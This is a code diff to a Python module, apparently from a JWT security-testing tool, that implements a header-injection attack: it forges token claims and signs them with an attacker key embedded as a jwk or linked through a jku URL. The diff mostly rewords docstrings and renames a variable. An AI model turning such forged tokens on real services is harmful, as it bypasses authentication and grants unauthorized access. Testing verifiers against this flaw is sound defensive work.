@@ -1,4 +1,4 @@
-"""The token brings its own key along, or says where to fetch it."""
+"""Header injection: the header of a forged token contains its verification key, or the address of one."""
 
 import json
 from collections.abc import Mapping
@@ -16,30 +16,31 @@ OWN_KID = "attacker"
 
 
 class HeaderInjection(TokenAttack):
-    """``jwk`` and ``jku``, each under the known ``kid`` and under a new one."""
+    """Injects ``jwk`` and ``jku``, each under the known ``kid`` and under a new one."""
 
     name: ClassVar[str] = "header_injection"
-    summary: ClassVar[str] = "forged claims, signed with a key that the header itself brings (jwk) or links to (jku)"
+    summary: ClassVar[str] = "forged claims, signed with a key that the header itself contains (jwk) or links to (jku)"
     source: ClassVar[str] = "RFC 8725 sections 2.9 and 3.10; CVE-2018-0114, CVE-2025-24976"
     needs: ClassVar[tuple[str, ...]] = ("encryption_jwk",)
 
     def prepare(self, ctx: Context) -> Flow[Preparation]:
-        """Rewrite and sign; the key set is served by `list_endpoints`."""
-        made = yield from forge_claims(ctx, self.assets)
-        if isinstance(made, NotApplicable):
-            return made
-        own = _generate_key(made.algorithm if is_key_pair_algorithm(made.algorithm) else "RS256")
+        """Rewrite the claims and sign them; `list_endpoints` serves the key set."""
+        forged = yield from forge_claims(ctx, self.assets)
+        if isinstance(forged, NotApplicable):
+            return forged
+        own = _generate_key(forged.algorithm if is_key_pair_algorithm(forged.algorithm) else "RS256")
         headers: dict[str, dict[str, Any]] = {"jwk": {"jwk": _remove_kid(own)}, "jku": {"jku": JWKS_URI}}
         return tuple(
             Candidate(
-                f"{name}, kid {kid}", made.seal(sign_claims(made.claims, replace(own, kid=kid), typ=made.typ, **more))
+                f"{name}, kid {kid}",
+                forged.seal(sign_claims(forged.claims, replace(own, kid=kid), typ=forged.typ, **more)),
             )
             for name, more in headers.items()
-            for kid in (OWN_KID, made.kid)
+            for kid in (OWN_KID, forged.kid)
         )
 
     def list_endpoints(self) -> Mapping[str, Handler]:
-        """The attacker's key set, with one key of each kind."""
+        """Return the endpoint of the attacker's key set."""
         return {JWKS_URI: _serve_keys}
 
 
